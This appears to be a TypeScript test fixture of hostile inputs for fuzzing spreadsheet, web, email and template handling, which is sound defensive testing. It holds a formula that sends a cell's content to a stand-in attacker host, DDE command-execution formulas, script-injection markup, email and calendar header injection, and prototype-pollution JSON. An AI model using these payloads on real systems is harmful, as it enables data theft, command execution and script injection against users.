/** What would be a formula, in Sheets or in another program that opens what was copied from it. */
const formulas = [
  '=1+1',
  '=IMPORTXML("https://evil.example/?"&A1;"//a")',
  '=HYPERLINK("https://evil.example";"Click")',
  "'=1+1",
  "''=1+1",
  ' =1+1',
  '\t=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '+1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1;1)',
  '＝1+1',
  '＋1',
  '{=1}',
  '=cmd|"/C calc"!A0',
  '\u2028=1+1',
  '*',
  '>=0',
  '#REF!',
  '#SPILL!',
  'TRUE',
];

/** What a page or a mail would take for its own. */
const markup = [
  '<b>bold</b>',
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '" style="position:fixed" href="https://evil.example',
  '<!-- --><style>*{display:none}</style>',
  '&lt;i&gt;&amp;&#60;',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/?a=1&b=2',
  ']]>',
];

/** What a template, a letter's head or a calendar's file would take for its own. */
const templates = [
  '{{name}}',
  '{{{name}}}',
  '{{#people}}x{{/people}}',
  '{{=<% %>=}}',
  '${1+1}',
  '$&$1$`',
  '%s %d',
  'Hello\r\nBcc: victim@example.com\r\n\r\nBody',
  'Hello\nSubject: another',
  'x\r\nEND:VEVENT\r\nBEGIN:VALARM',
  'x;VALUE=URI:https://evil.example,\\n',
  '{{> partial}}',
  '{{constructor}}',
  '<?!= 1 ?>',
];

/** Names that an object of JavaScript has from its birth. */
export const innate = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
];

/** Letters that are seldom thought of. */
const letters = [
  '\u202eоборот',
  '\u200b\u200d\ufeff',
  'e\u0301'.repeat(50),
  '👩‍👩‍👧‍👦 семья',
  '\ud800',
  'a\udfffb',
  '\u0000\u0001\u001f\u007f',
  'a\u2028b\u2029c\u0085d',
  '\u00a0',
  'ı İ ß ﬁ',
  'Ёлка Елка',
  'Андреи\u0306',
  '\u2066внутри\u2069 \u200fсправа',
  'a␟b␞c',
  '␑5',
  '＠ＳＵＭ １',
];

/** What looks like a number, a day or a time and is none, or too much of one. */
const amounts = [
  '1e308',
  '-1e308',
  'NaN',
  'Infinity',
  '0x1F',
  '00012',
  '9007199254740993',
  '31.02.2026',
  '2026-02-30',
  '2026-13-01',
  '0000-00-00',
  '9999-12-31',
  '1899-12-30',
  '25:61',
  '24:00',
  '+7 (999) 000-00-00 доб. 1234567890',
  '1-2',
  '1/2',
  '12:30',
  '50%',
  '₽5',
  '1 000,50',
  '23 ноября 2026',
  '١٢٣',
];

/** Texts as long as a cell holds, and longer. */
export const long = [
  'ы'.repeat(50_000),
  'a '.repeat(25_001),
  ' '.repeat(60_000),
  '"'.repeat(50_000),
  '\n'.repeat(50_000),
];

/** Hostile texts of a bearable length. */
export const texts: readonly string[] = [...formulas, ...markup, ...templates, ...innate, ...letters, ...amounts];

/** What is no text at all, as JSON carries it. */
export const others: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  1.5,
  [],
  {},
  ['a', ['b']],
  { length: 3 },
  { toString: 'x' },
  JSON.parse('{"__proto__": {"polluted": "yes"}}'),
  JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}'),
  Array.from({ length: 2_000 }, () => 'x'),
  Array.from({ length: 200 }).reduce<unknown>(deeper => ({ deeper }), 'x'),
];
